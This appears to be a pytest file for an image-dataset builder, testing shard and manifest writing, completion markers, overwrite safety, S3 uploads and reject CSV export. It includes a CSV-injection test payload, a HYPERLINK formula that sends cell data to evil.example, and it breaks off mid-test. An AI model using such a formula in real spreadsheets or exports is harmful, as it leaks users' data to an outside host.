"""builder.writers: the dataset layout, shards written in place, manifests streamed and the
marker written last, on a local dir and on S3 (moto)."""

from __future__ import annotations

import csv
import ctypes
import errno
import hashlib
import io
import json
import os
import pickle
import random
import subprocess
import sys
import tarfile
import time
import urllib.error
import urllib.request
import uuid
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.csv as pa_csv
import pyarrow.fs as pafs
import pyarrow.parquet as pq
import pytest
import yaml
from PIL import Image
from pydantic import ValidationError

from builder import storage
from builder.card import PARTIAL_MARKER, render_card
from builder.errors import OutputExistsError, SpecError, StorageError
from builder.ports import free_port
from builder.reasons import Reason
from builder.records import (ACCEPTED_SCHEMA, REJECT_SCHEMA, ROW_SCHEMA, Candidate, Record,
                             accepted_row, reject_row, with_columns)
from builder.rights import Signal
from builder.spec import OutputSpec, parse_spec
from builder.journal import Journal
from builder.writers import (REJECT_CSV_COLUMNS, DatasetPublisher, ShardWriter, image_label_info,
                             is_complete, read_dataset, read_marker, render_image_label,
                             shard_order, write_rejects)

LABELS = ["cat", "mammals/dog", "mammals/whale"]
SPLITS = ["train", "train", "validation", "test"]
ALL_FORMATS = ["parquet", "imagefolder", "webdataset"]

# -- fixtures -----------------------------------------------------------------------------------


def _image(fmt: str, seed: int) -> tuple[bytes, int, int]:
    w, h = 24 + seed % 7, 16 + seed % 5
    img = Image.new("RGB", (w, h), ((seed * 37) % 256, (seed * 91) % 256, (seed * 53) % 256))
    img.putpixel((seed % w, seed % h), (255, 255, 255))
    buf = io.BytesIO()
    img.save(buf, format=fmt.upper())
    return buf.getvalue(), w, h


def make_rows() -> list[dict]:
    """12 accepted rows: 3 labels (two nested) x 4 images, JPEG and PNG, over three splits."""
    rows = []
    for i in range(12):
        label = LABELS[i % 3]
        fmt = "jpeg" if i % 2 else "png"
        data, w, h = _image(fmt, i)
        cand = Candidate(url=f"http://127.0.0.1/img/{i}.{fmt}", label=label,
                         query=label.replace("/", " "), engine="sandbox", rank=i,
                         page_url=f"http://127.0.0.1/page/{i}", title=f"image {i}",
                         license="cc-by", author=f"author{i}")
        rec = Record(candidate=cand, data=data, format=fmt, width=w, height=h,
                     sha256=hashlib.sha256(data).hexdigest(), phash="0" * 16, dhash="f" * 16,
                     split=SPLITS[(i // 3) % 4])
        rows.append(accepted_row(rec))
    return rows


def make_rejects() -> list[dict]:
    out = []
    for i, reason in enumerate([Reason.TIMEOUT, Reason.NEAR_DUPLICATE, Reason.TOO_SMALL]):
        rec = Record(candidate=Candidate(url=f"http://127.0.0.1/bad/{i}", label=LABELS[i]))
        rec.http_status = 200 if i else 0
        rec.rights = [Signal("x_robots_tag", "", "header x-robots-tag")] if i == 1 else []
        out.append(reject_row(rec.reject(reason, f"detail {i}")))
    return out


def make_stats(job_id: str = "job1") -> dict:
    return {
        "job_id": job_id, "name": "pets", "partial": False, "started": "2025-01-01T00:00:00Z",
        "finished": "2025-01-01T00:01:00Z", "duration_s": 60.0, "candidates": 15,
        "accepted": 12, "rejected": 3,
        "classes": {label: {"target": 5, "candidates": 5, "accepted": 4, "rejected": 1,
                            "rejected_by_reason": {}, "shortfall": 1} for label in LABELS},
        "rejected_by_reason": {"timeout": 1, "near_duplicate": 1, "too_small": 1},
        "rejected_by_stage": {"fetch": 1, "dedup": 1, "validate": 1},
    }



@pytest.fixture(scope="module")
def moto_s3():
    """A moto S3 server on 127.0.0.1 with bucket 'pix'; yields its endpoint URL."""
    exe = Path(sys.executable).with_name("moto_server")
    if not exe.exists():
        pytest.skip(f"moto_server not found next to {sys.executable}")
    port = free_port()
    endpoint = f"http://127.0.0.1:{port}"
    proc = subprocess.Popen([str(exe), "-H", "127.0.0.1", "-p", str(port)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    env = pytest.MonkeyPatch()
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(endpoint, timeout=1).close()
                break
            except (urllib.error.URLError, ConnectionError, OSError):
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError("moto_server did not start") from None
                time.sleep(0.1)
        for name, value in {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
                            "AWS_DEFAULT_REGION": "us-east-1"}.items():
            env.setenv(name, value)
        for name in ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "AWS_PROFILE",
                     "AWS_SESSION_TOKEN"):
            env.delenv(name, raising=False)
        fs, _ = storage.open_fs("s3://pix", {"endpoint_url": endpoint})
        fs.mkdir("pix")
        yield endpoint
    finally:
        env.undo()
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


class Target:
    """Where a test writes, and an independent pyarrow filesystem to check what landed."""

    def __init__(self, uri: str, options: dict | None, fs: pafs.FileSystem, root: str):
        self.uri, self.options, self.fs, self.root = uri, options, fs, root

    def read(self, rel: str) -> bytes:
        with self.fs.open_input_stream(f"{self.root}/{rel}") as f:
            return f.read()

    def files(self) -> set[str]:
        infos = self.fs.get_file_info(pafs.FileSelector(self.root, recursive=True,
                                                        allow_not_found=True))
        return {i.path[len(self.root) + 1:] for i in infos if i.type == pafs.FileType.File}

    def job(self, job_id: str = "job1", labels=LABELS, **output) -> "Job":
        output.setdefault("formats", ALL_FORMATS)
        return Job(self, job_id, OutputSpec(**output), labels)


class Job:
    """What a job does with the writers: shards in place, then the publish."""

    def __init__(self, target: Target, job_id: str, output: OutputSpec, labels):
        self.target = target
        self.output = output
        self.labels = labels
        self.writer = ShardWriter(output, target.uri, labels, target.options)
        self.journal = Journal(target.uri, job_id, target.options)
        self.publisher = DatasetPublisher(output, target.uri, job_id, target.options, labels)

    def shard(self, rows, number: int) -> list[dict]:
        """Write ``rows`` as shard ``number`` of each of their splits; their manifest rows."""
        out = []
        for split in sorted({r["split"] for r in rows}):
            part = [r for r in rows if r["split"] == split]
            out += self.writer.write(part, split, number, self.journal).to_pylist()
        return out

    def publish(self, stats=None, rejects=None, partial_reason=None) -> str:
        rows = [row for table in self.journal.iter_tables("shards") for row in table.to_pylist()]
        if stats is None:  # the job's counts agree with its files, or nothing is published
            stats = make_stats(self.journal.job_id)
            stats.update(accepted=len(rows), candidates=len(rows) + stats["rejected"])
        rejects = make_rejects() if rejects is None else rejects
        uri = self.publisher.publish(
            manifest_rows=iter(rows),
            reject_tables=[pa.Table.from_pylist(rejects, schema=REJECT_SCHEMA)],
            stats=stats, spec_name="pets", description="Cats, dogs and whales.",
            spec_yaml="name: pets\ntarget: 5\n", partial_reason=partial_reason)
        self.journal.remove()
        return uri


@pytest.fixture(params=["local", "s3"])
def target(request, tmp_path):
    if request.param == "local":
        root = str(tmp_path / "ds")
        return Target(root, None, pafs.LocalFileSystem(), root)
    endpoint = request.getfixturevalue("moto_s3")
    prefix = f"pix/run-{uuid.uuid4().hex[:8]}"
    fs = pafs.S3FileSystem(endpoint_override=endpoint.removeprefix("http://"), scheme="http",
                           access_key="testing", secret_key="testing", region="us-east-1")
    return Target(f"s3://{prefix}", {"endpoint_url": endpoint}, fs, prefix)


@pytest.fixture
def local(tmp_path):
    root = str(tmp_path / "ds")
    return Target(root, None, pafs.LocalFileSystem(), root)


def write_all(job: Job, rows: list[dict]) -> list[dict]:
    return job.shard(rows[:6], 0) + job.shard(rows[6:], 1)


# -- the round trip ---------------------------------------------------------------------------


def test_round_trip(target):
    rows = make_rows()
    by_id = {r["id"]: r for r in rows}
    job = target.job()
    manifest = write_all(job, rows)
    # Shards are in place, but nothing is complete until the marker is written.
    assert not is_complete(target.uri, target.options)
    assert any(p.startswith("data/") for p in target.files())
    assert job.publish() == target.uri
    assert is_complete(target.uri, target.options)
    files = target.files()
    assert not any(p.startswith("_journal") or ".tmp-" in p for p in files)

    # Parquet: one file per split per shard number, rows in hash order, schema intact.
    shards = sorted(p for p in files if p.startswith("data/"))
    expected = sorted({f"data/{r['split']}-{i // 6:05d}.parquet" for i, r in enumerate(rows)})
    assert shards == expected
    table = read_dataset(target.uri, target.options)
    assert table.schema == ACCEPTED_SCHEMA and table.num_rows == 12
    index = {label: i for i, label in enumerate(LABELS)}
    for got in table.to_pylist():
        row = by_id[got["id"]]
        ext = "jpg" if row["format"] == "jpeg" else "png"
        assert got == {**row, "nsfw_score": None, "clip_score": None,
                       "label": index[row["label"]], "label_name": row["label"],
                       "image": {"bytes": row["image"], "path": f"{row['id']}.{ext}"}}
    for shard in shards:
        pf = pq.ParquetFile(io.BytesIO(target.read(shard)))
        ids = pf.read(columns=["id"])["id"].to_pylist()
        assert ids == [ids[i] for i in shard_order(ids)]
        col = pf.schema_arrow.get_field_index("image")
        assert pf.metadata.row_group(0).column(col).compression == "UNCOMPRESSED"
        assert pf.metadata.row_group(0).column(0).compression == "ZSTD"
    frame = pd.read_parquet(f"{target.root}/data", filesystem=target.fs)
    assert sorted(frame["id"]) == sorted(by_id) and set(frame["split"]) == {
        "train", "validation", "test"}

    # ImageFolder: a folder per class, named by the full label, and every file decodes to the
    # recorded size.
    assert len(manifest) == 12
    for m in manifest:
        assert m["path"].startswith(f"imagefolder/{m['split']}/"
                                    f"{m['label'].replace('/', '__')}/")
        img = Image.open(io.BytesIO(target.read(m["path"])))
        img.load()
        assert img.size == (m["width"], m["height"])
        assert m["path"].endswith(".jpg" if m["format"] == "jpeg" else ".png")
    assert any(p.startswith("imagefolder/train/mammals__dog/") for p in files)

    # WebDataset: per sample {id}.jpg (an RGB JPEG: the JPEGs as stored, the PNGs encoded),
    # {id}.cls, {id}.json.
    classes = json.loads(target.read("classes.json"))
    assert classes == {"cat": 0, "mammals/dog": 1, "mammals/whale": 2}
    assert target.read("classes.txt").decode().splitlines() == LABELS
    tars = sorted(p for p in files if p.startswith("webdataset/"))
    assert tars == [s.replace("data/", "webdataset/").replace(".parquet", ".tar") for s in shards]
    seen = set()
    for path in tars:
        with tarfile.open(fileobj=io.BytesIO(target.read(path))) as tar:
            members = {m.name: tar.extractfile(m).read() for m in tar.getmembers()}
        keys = {name.split(".")[0] for name in members}
        assert set(members) == {f"{k}.{ext}" for k in keys for ext in ("jpg", "cls", "json")}
        for key in keys:
            meta = json.loads(members[f"{key}.json"])
            row = by_id[key]
            assert meta["label"] == row["label"] and "image" not in meta
            assert int(members[f"{key}.cls"]) == classes[row["label"]]
            jpg = Image.open(io.BytesIO(members[f"{key}.jpg"]))
            assert (jpg.format, jpg.mode, jpg.size) == ("JPEG", "RGB", (row["width"],
                                                                         row["height"]))
            if row["format"] == "jpeg":
                assert members[f"{key}.jpg"] == row["image"]
            else:
                stored = np.asarray(Image.open(io.BytesIO(row["image"])).convert("RGB"))
                assert np.abs(np.asarray(jpg, dtype=int) - stored).mean() < 8
        seen |= keys
    assert seen == set(by_id)

    # Label manifests, all four formats, agree with each other and with the rows.
    want = {(r["id"], r["label"], r["split"]) for r in rows}
    as_json = json.loads(target.read("labels.json"))
    as_csv = list(csv.DictReader(io.StringIO(target.read("labels.csv").decode())))
    as_yaml = yaml.safe_load(target.read("labels.yaml"))
    as_txt = [line.split("\t") for line in target.read("labels.txt").decode().splitlines()]
    for entries in (as_json, as_csv, as_yaml):
        assert {(e["id"], e["label"], e["split"]) for e in entries} == want
        assert all(int(e["label_index"]) == classes[e["label"]] for e in entries)
        assert all(e["path"] in files for e in entries)
    assert sorted(as_txt) == sorted([e["path"], e["label"]] for e in as_json)

    # Rejects, stats, card.
    rejects = pq.read_table(io.BytesIO(target.read("rejects.parquet")))
    assert sorted(rejects["reason"].to_pylist()) == ["near_duplicate", "timeout", "too_small"]
    rejects_csv = list(csv.DictReader(io.StringIO(target.read("rejects.csv").decode())))
    assert {r["stage"] for r in rejects_csv} == {"fetch", "dedup", "validate"}
    assert json.loads(target.read("stats.json")) == make_stats()
    readme = target.read("README.md").decode()
    header = yaml.safe_load(readme.split("---\n")[1])
    assert header["configs"][0]["data_files"] == [
        {"split": s, "path": f"data/{s}-*.parquet"} for s in ("train", "validation", "test")]
    assert "| mammals/dog | 5 | 5 | 4 | 1 | 1 |" in readme
    assert "`near_duplicate`" in readme and "| `sha256` |" in readme and "target: 5" in readme
    assert PARTIAL_MARKER not in readme

    # _SUCCESS lists every other file but the ImageFolder tree (counted) with their sizes.
    success = json.loads(target.read("_SUCCESS"))
    listed = {f["path"]: f["size"] for f in success["files"]}
    assert set(listed) == {p for p in files if not p.startswith("imagefolder/")} - {"_SUCCESS"}
    assert all(len(target.read(p)) == size for p, size in listed.items())
    assert success["counts"]["imagefolder_files"] == 12
    assert success["job_id"] == "job1" and success["counts"]["accepted"] == 12
    assert read_marker(target.uri, target.options)["marker"] == "_SUCCESS"


def test_the_marker_reaches_the_disk_after_what_it_vouches_for(target, monkeypatch):
    """The kernel writes files out in its own order: a marker written without a flush could
    reach a local disk before the shards and manifests it vouches for, and after a power cut
    say complete over empty files. The filesystem is flushed before the marker and after it;
    an object store holds what an upload completed, and nothing is flushed there."""
    flushes = []

    def syncfs(fd: int) -> int:
        flushes.append((os.readlink(f"/proc/self/fd/{fd}"), target.files()))
        return 0

    monkeypatch.setattr(storage, "_libc_syncfs", lambda: syncfs)
    job = target.job()
    write_all(job, make_rows())
    job.publish()
    if target.uri.startswith("s3://"):
        assert flushes == []
        return
    (before_in, before), (after_in, after) = flushes
    assert before_in == after_in == target.root
    assert "_SUCCESS" not in before and after == before | {"_SUCCESS"}
    assert {"labels.json", "stats.json", "README.md"} <= before
    assert any(p.startswith("data/") for p in before)


def test_a_flush_that_fails_publishes_nothing(local, monkeypatch):
    """A disk that cannot be flushed (an I/O error) leaves no marker, whether the flush before
    it or the one after fails, and the error names the dataset; where the C library has no
    syncfs (macOS), or a sandbox forbids it, every filesystem is flushed."""
    calls = []

    def failing_at(which: int):
        def syncfs(fd: int) -> int:
            calls.append(fd)
            if len(calls) != which:
                return 0
            ctypes.set_errno(errno.EIO)
            return -1
        return syncfs

    job = local.job()
    write_all(job, make_rows())
    for which in (1, 2):
        calls.clear()
        monkeypatch.setattr(storage, "_libc_syncfs", lambda: failing_at(which))
        with pytest.raises(StorageError, match="could not flush the filesystem to disk"):
            job.publish()
        assert len(calls) == which and not is_complete(local.uri)
        assert "_SUCCESS" not in local.files()
    synced = []
    monkeypatch.setattr(storage.os, "sync", lambda: synced.append(True))
    monkeypatch.setattr(storage, "_libc_syncfs", lambda: None)
    job.publish()
    assert is_complete(local.uri) and synced == [True, True]

    def forbidden(fd: int) -> int:
        ctypes.set_errno(errno.EPERM)
        return -1

    monkeypatch.setattr(storage, "_libc_syncfs", lambda: forbidden)
    storage.flush_to_disk(storage.open_fs(local.uri)[0], local.root)
    assert synced == [True] * 3


def test_overwrite_rules(target):
    rows = make_rows()
    first = target.job("job1")
    first.publisher.check()
    write_all(first, rows)
    first.publish()
    storage.write_bytes(storage.join(target.uri, "notes.txt"), b"mine", target.options)

    second = target.job("job2")
    with pytest.raises(OutputExistsError, match="output.overwrite"):
        second.publisher.check()
    # Continuing a dataset (a merge) may start over a complete one, and keeps its files.
    second.publisher.check(merge=True)

    third = target.job("job3", overwrite=True)
    third.publisher.check()
    third.publisher.prepare()
    files = target.files()
    # The old dataset is gone (markers first), other files stay.
    assert "notes.txt" in files and not is_complete(target.uri, target.options)
    assert not any(p.startswith(("data/", "imagefolder/", "webdataset/")) for p in files)
    assert "labels.json" not in files and "README.md" not in files
    third.shard(rows[:3], 0)
    third.publish()
    assert read_dataset(target.uri, target.options).num_rows == 3
    assert json.loads(target.read("_SUCCESS"))["job_id"] == "job3"


def test_an_overwrite_removes_the_dataset_and_never_the_folders_other_files(target):
    """The marker listed every file under the output, so the next overwrite deleted a
    neighbouring folder's photos and the user's notes."""
    for rel in ("notes.txt", "photos_2019/keep.jpg", "data_old/x.parquet"):
        storage.write_bytes(storage.join(target.uri, rel), b"mine", target.options)
    first = target.job("job1")
    first.publisher.prepare()
    write_all(first, make_rows())
    first.publish()
    listed = {f["path"] for f in json.loads(target.read("_SUCCESS"))["files"]}
    assert listed and not listed & {"notes.txt", "photos_2019/keep.jpg", "data_old/x.parquet"}
    # a marker written by an older version, listing everything: only dataset files go
    old_marker = json.loads(target.read("_SUCCESS"))
    old_marker["files"] += [{"path": "notes.txt", "size": 4}, {"path": "photos_2019/keep.jpg",
                                                              "size": 4}]
    storage.write_bytes(storage.join(target.uri, "_SUCCESS"), json.dumps(old_marker).encode(),
                        target.options)
    second = target.job("job2", overwrite=True)
    second.publisher.check()
    second.publisher.prepare()
    assert target.files() == {"notes.txt", "photos_2019/keep.jpg", "data_old/x.parquet"}


def test_a_marker_vouches_only_for_the_manifests_its_own_publish_wrote(target):
    """A publish that failed after its manifests were written (a kill, a storage error)
    left labels.yaml with no marker. An overwrite removed only the dataset files a marker
    listed, and the next publish listed every dataset file it found: its _SUCCESS vouched
    for the old labels.yaml, which named images in no shard. A recheck that stopped leaves
    such files too, and a plain build then published over them."""
    fs, root = storage.open_fs(target.uri, target.options)
    rows = make_rows()
    first = target.job("job1", label_formats=["json", "yaml"])
    write_all(first, rows)
    first.publish()
    fs.rm(f"{root}/_SUCCESS")  # as a publish that failed before its marker
    second = target.job("job2", overwrite=True, label_formats=["json"])
    second.publisher.check()
    second.publisher.prepare()
    assert not {"labels.yaml", "labels.json", "stats.json"} & target.files()
    second.shard(rows[:2], 0)
    second.publish()
    listed = {f["path"] for f in json.loads(target.read("_SUCCESS"))["files"]}
    assert "labels.json" in listed and "labels.yaml" not in target.files()

    own = target.job("job9", overwrite=True)  # a folder of the user's own, no dataset
    for rel in ("README.md", "spec.yaml"):
        storage.write_bytes(storage.join(target.uri, f"own/{rel}"), b"mine", target.options)
    DatasetPublisher(own.output, storage.join(target.uri, "own"), "job9", target.options,
                     LABELS).prepare()
    assert {"own/README.md", "own/spec.yaml"} <= target.files()

    fs.rm(f"{root}/_SUCCESS")  # a dataset's leftovers with no marker, as a recheck leaves
    storage.write_bytes(storage.join(target.uri, "labels.yaml"),
                        b"- {id: gone, path: data/test-00007.parquet, label: cat}\n",
                        target.options)
    plain = target.job("job3", label_formats=["json"])
    plain.shard(rows[:1], 1)
    plain.publish()
    listed = {f["path"] for f in json.loads(target.read("_SUCCESS"))["files"]}
    assert "labels.yaml" not in listed and "labels.yaml" not in target.files()


def test_a_folder_with_no_dataset_keeps_the_files_a_publish_would_write_over(target):
    """A folder holding its own README.md (and no marker, shard or journal) passed the check,
    overwrite or not, and the publish then wrote the dataset's card over it."""
    storage.write_bytes(storage.join(target.uri, "README.md"), b"my notes", target.options)
    storage.write_bytes(storage.join(target.uri, "labels.csv"), b"mine", target.options)
    for overwrite in (False, True):
        job = target.job("job1", overwrite=overwrite)
        with pytest.raises(OutputExistsError, match="holds README.md, labels.csv, which the "
                           "dataset would write over"):
            job.publisher.check()
    assert target.read("README.md") == b"my notes"
    fs, root = storage.open_fs(target.uri, target.options)
    fs.rm([f"{root}/README.md", f"{root}/labels.csv"])
    storage.write_bytes(storage.join(target.uri, "notes.txt"), b"mine", target.options)
    target.job("job1").publisher.check()  # the folder's other files are not in the way


def s3_target(endpoint: str, prefix: str) -> Target:
    fs = pafs.S3FileSystem(endpoint_override=endpoint.removeprefix("http://"), scheme="http",
                           access_key="testing", secret_key="testing", region="us-east-1")
    return Target(f"s3://pix/{prefix}", {"endpoint_url": endpoint}, fs, f"pix/{prefix}")


def test_glob_characters_in_an_s3_output_delete_only_its_own_files(moto_s3):
    """fsspec's rm reads [, ? and * as a pattern on S3: overwriting s3://pix/runs[1] deleted
    s3://pix/runs1 and left runs[1]'s own _SUCCESS over the new job's files."""
    run = uuid.uuid4().hex[:6]
    odd, plain = s3_target(moto_s3, f"{run}/runs[1]"), s3_target(moto_s3, f"{run}/runs1")
    for target in (odd, plain, s3_target(moto_s3, f"{run}/runs?")):
        job = target.job("job1")
        write_all(job, make_rows())
        job.publish()
    again = odd.job("job2", overwrite=True)
    again.publisher.prepare()
    assert odd.files() == set()
    assert is_complete(plain.uri, plain.options) and len(plain.files()) > 10
    assert read_dataset(plain.uri, plain.options).num_rows == len(make_rows())
    again.shard(make_rows()[:3], 0)
    again.publish()
    assert read_dataset(odd.uri, odd.options).num_rows == 3
    assert not any(p.startswith("_journal") for p in odd.files())


@pytest.mark.parametrize("size", [100, 12 << 20])  # one upload; a multipart one of 5 MiB parts
def test_a_write_that_fails_on_s3_leaves_no_object(moto_s3, size):
    """fsspec's own with-block completes the upload on an error: a manifest half written
    became the dataset's labels.json."""
    fs, root = storage.open_fs(f"s3://pix/failed-{uuid.uuid4().hex[:6]}",
                               {"endpoint_url": moto_s3, "default_block_size": 5 << 20})
    with pytest.raises(KeyError):
        with storage.atomic_open(fs, f"{root}/labels.json") as f:
            f.write(b"x" * size)
            if size > 5 << 20:
                assert f.mpu, "the test meant a multipart upload to have begun"
            raise KeyError("the journal could not be read")
    fs.invalidate_cache()
    assert not fs.exists(f"{root}/labels.json")
    assert not fs.call_s3("list_multipart_uploads", Bucket="pix").get("Uploads")
    with storage.atomic_open(fs, f"{root}/labels.json") as f:
        f.write(b"y" * size)
    assert fs.size(f"{root}/labels.json") == size


def test_a_merge_keeps_the_old_files_and_numbers_after_them(local):
    rows = make_rows()
    first = local.job("job1")
    write_all(first, rows[:6])
    first.publish(partial_reason="cancelled")
    second = local.job("job2")
    second.publisher.check(merge=True)
    second.publisher.prepare(merge=True)
    numbers = DatasetPublisher.next_numbers(*storage.open_fs(local.uri))
    assert numbers["train"] == 1 and "_PARTIAL" not in local.files()
    assert any(p.startswith("data/") for p in local.files())


def test_shard_numbers_past_five_digits_are_counted(tmp_path):
    """Names are zero-padded to five digits and grow past them; the numbers after a dataset's
    shards were read from five-digit names only, so a split's 100,000th shard was numbered
    again (a merge would then overwrite it)."""
    root = tmp_path / "ds"
    for name in ("data/train-99999.parquet", "data/train-100000.parquet",
                 "data/my-val-00007.parquet", "webdataset/test-1234567.tar",
                 "data/train-1234.parquet", "data/train-x0001.parquet"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(b"")
    assert DatasetPublisher.next_numbers(*storage.open_fs(str(root))) == {
        "train": 100001, "my-val": 8, "test": 1234568}


def test_publish_partial(target):
    job = target.job()
    write_all(job, make_rows())
    assert job.publish(partial_reason="cancelled by user") == target.uri
    files = target.files()
    assert "_PARTIAL" in files and "_SUCCESS" not in files
    assert not is_complete(target.uri, target.options)
    marker = json.loads(target.read("_PARTIAL"))
    assert marker["reason"] == "cancelled by user" and marker["counts"]["accepted"] == 12
    stats = json.loads(target.read("stats.json"))
    assert stats["partial"] is True and stats["accepted"] == 12
    body = target.read("README.md").decode().split("---\n", 2)[2]
    assert body.lstrip().startswith(PARTIAL_MARKER) and "cancelled by user" in body

    # A partial dataset is kept from a new job (--resume continues it) unless told to replace.
    again = target.job("job2")
    with pytest.raises(OutputExistsError, match="partial dataset.*job1.*--resume"):
        again.publisher.check()
    again.publisher.output.overwrite = True
    again.publisher.check()
    again.publisher.prepare()
    write_all(again, make_rows())
    again.publish()
    assert is_complete(target.uri, target.options)
    assert "_PARTIAL" not in target.files()


@pytest.mark.parametrize("field", ["accepted", "rejected"])
def test_counts_that_disagree_with_the_manifests_publish_no_marker(local, field):
    """stats.json over the files it describes: a job whose counts miss images (or rejects)
    must not be marked complete; a retry over a dataset missing its stats.json once was."""
    job = local.job()
    write_all(job, make_rows())
    stats = make_stats(job.journal.job_id)
    stats[field] += 2
    stats["candidates"] += 2  # the figures balance; the files hold fewer
    with pytest.raises(StorageError, match=f"manifest holds .* job counted {stats[field]} "):
        job.publish(stats=stats)
    assert not {"_SUCCESS", "_PARTIAL"} & set(local.files())


@pytest.mark.parametrize("where", ["job", "class"])
def test_counts_where_accepted_and_rejected_miss_candidates_publish_no_marker(local, where):
    """Every candidate is counted once, as accepted or as rejected: figures that say
    otherwise (a candidate counted twice, or lost) are not published."""
    job = local.job()
    write_all(job, make_rows())
    stats = make_stats(job.journal.job_id)
    if where == "job":
        stats["candidates"] += 1
    else:
        stats["classes"][LABELS[0]]["candidates"] += 1
    with pytest.raises(StorageError, match="candidates; not marking"):
        job.publish(stats=stats)
    assert not {"_SUCCESS", "_PARTIAL"} & set(local.files())


def test_files_of_a_shard_that_never_committed_are_removed(target):
    job = target.job()
    rows = make_rows()
    job.shard(rows[:6], 0)
    files_before = target.files()
    job.journal.write_shard_intent("train-00007", ["data/train-00007.parquet",
                                                   "imagefolder/train/cat/x.jpg"])
    storage.write_bytes(storage.join(target.uri, "data/train-00007.parquet"), b"half",
                        target.options)
    assert sorted(job.journal.orphan_files()) == ["data/train-00007.parquet",
                                                  "imagefolder/train/cat/x.jpg"]
    assert job.publisher.remove_files(job.journal.orphan_files()) == 1
    assert target.files() == files_before | {"_journal/job1/shards/train-00007.intent.json"}


def test_a_file_a_committed_shard_wrote_again_is_not_an_orphan(target):
    """A shard lost mid-write and the shard that wrote its image again (the unit resent)
    name the same ImageFolder file: removing the lost shard's files keeps it."""
    job = target.job()
    rows = make_rows()
    job.shard(rows[:6], 0)
    committed = json.loads(target.read("_journal/job1/shards/train-00000.intent.json"))
    image = next(f for f in committed["files"] if f.startswith("imagefolder/"))
    job.journal.write_shard_intent("train-00007", ["data/train-00007.parquet", image])
    assert job.journal.orphan_files() == ["data/train-00007.parquet"]
    job.publisher.remove_files(job.journal.orphan_files())
    assert image in target.files()


def test_a_write_cut_by_a_kill_leaves_no_temporary_file(local):
    """A process killed inside atomic_open leaves its temporary file beside the target; the
    orphan's clean-up removes it, whether or not a committed shard wrote the file since."""
    job = local.job()
    job.shard(make_rows()[:6], 0)
    committed = json.loads(local.read("_journal/job1/shards/train-00000.intent.json"))
    image = next(f for f in committed["files"] if f.startswith("imagefolder/"))
    cut = [f"{image}.tmp-0259068112ae", "imagefolder/train/cat/x.jpg.tmp-0123456789ab"]
    for rel in cut:
        storage.write_bytes(storage.join(local.uri, rel), b"half", local.options)
    job.journal.write_shard_intent("train-00007", [image, "imagefolder/train/cat/x.jpg"])
    assert sorted(job.journal.orphan_files()) == sorted(["imagefolder/train/cat/x.jpg", *cut])
    job.publisher.remove_files(job.journal.orphan_files())
    files = local.files()
    assert image in files and not any(".tmp-" in f for f in files)


def test_rejects_csv_is_what_pythons_csv_module_writes(local):
    """Batches whose values need no quoting are written by Arrow, the others by Python's csv
    module: the file is the same as Python's csv module writes for all of them (quotes only
    where needed, a null and an empty string both empty). The ledgers are in the Parquet
    only; a table without them (a dataset's written before they were kept) has nulls."""
    plain = pa.Table.from_pylist(make_rejects() + [
        {"key": "k", "url": "", "label": "cat", "query": None, "engine": " sp ace",
         "stage": "fetch", "reason": "timeout", "detail": "tab\there; 'x' \u00e9\u2028",
         "duplicate_of": None, "http_status": None}], schema=REJECT_SCHEMA)
    quoted = pa.Table.from_pylist([
        {"key": "k2", "url": "http://h/a,b", "label": "cat", "query": 'say "hi"',
         "engine": "e", "stage": "fetch", "reason": "timeout", "detail": "two\nlines\r",
         "duplicate_of": "", "http_status": 503}])
    tables = [plain, quoted, plain]
    fs, root = storage.open_fs(local.uri)
    assert write_rejects(fs, root, tables) == sum(t.num_rows for t in tables)
    expected = pa.concat_tables(with_columns(t, REJECT_SCHEMA, REJECT_SCHEMA.names).cast(
        REJECT_SCHEMA) for t in tables)
    text = io.StringIO()
    out = csv.writer(text, lineterminator="\n")
    out.writerow(REJECT_CSV_COLUMNS)
    for row in expected.to_pylist():
        out.writerow(["" if row[c] is None else row[c] for c in REJECT_CSV_COLUMNS])
    assert "rights" not in REJECT_CSV_COLUMNS and "rights" not in quoted.column_names
    assert local.read("rejects.csv") == text.getvalue().encode("utf-8")
    written = pq.read_table(io.BytesIO(local.read("rejects.parquet")))
    assert written.equals(expected)
    assert written["rights"].null_count == 3  # quoted's row and the last row of each plain
    assert written["rights"].to_pylist()[1] == [{"signal": "x_robots_tag", "value": "",
                                                 "source": "header x-robots-tag",
                                                 "verdict": "none"}]


def test_a_bare_carriage_return_in_a_reject_keeps_its_row_whole_in_rejects_csv(local):
    """Neither Arrow (which wrote such a batch) nor Python's csv with a ``\n`` row ending
    quotes a lone ``\r``, and CSV readers end the row there: a title "Sunset\rBeach" made
    rejects.csv unreadable by Arrow and one row more to Python."""
    cut = pa.Table.from_pylist(make_rejects()[:2] + [
        {"key": "k3", "url": "http://h/c", "label": "cat", "query": "q", "engine": "e",
         "stage": "fetch", "reason": "timeout", "detail": "Sunset\rBeach", "duplicate_of": "",
         "http_status": 404, "title": "a\r\nb"}], schema=REJECT_SCHEMA)
    fs, root = storage.open_fs(local.uri)
    assert write_rejects(fs, root, [cut]) == 3
    text = local.read("rejects.csv").decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == REJECT_CSV_COLUMNS and len(rows) == 4
    assert [dict(zip(rows[0], r))["detail"] for r in rows[1:]][-1] == "Sunset\rBeach"
    assert dict(zip(rows[0], rows[-1]))["title"] == "a\r\nb"
    assert pa_csv.read_csv(io.BytesIO(text.encode())).num_rows == 3
    assert text.endswith(',404,,,"a\r\nb",,,\n') and "\r\n" not in text.replace("a\r\nb", "")


HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2, "open")'


def test_text_from_the_web_in_rejects_csv_is_not_a_spreadsheet_formula(local):
    """A page's title, an author, a caption or a list's "URL" that starts with =, +, - or @
    was a formula to a spreadsheet opening rejects.csv (CSV injection): it is written with
    an apostrophe before it there; rejects.parquet keeps it as found, and the label (the
    spec's) is left as it is."""
    cut = pa.Table.from_pylist(make_rejects()[:1] + [
        {"key": "k2", "url": "-2+3", "label": "-cat", "query": "q", "engine": "e",
         "stage": "fetch", "reason": "bad_url", "detail": "@SUM(1)", "duplicate_of": "",
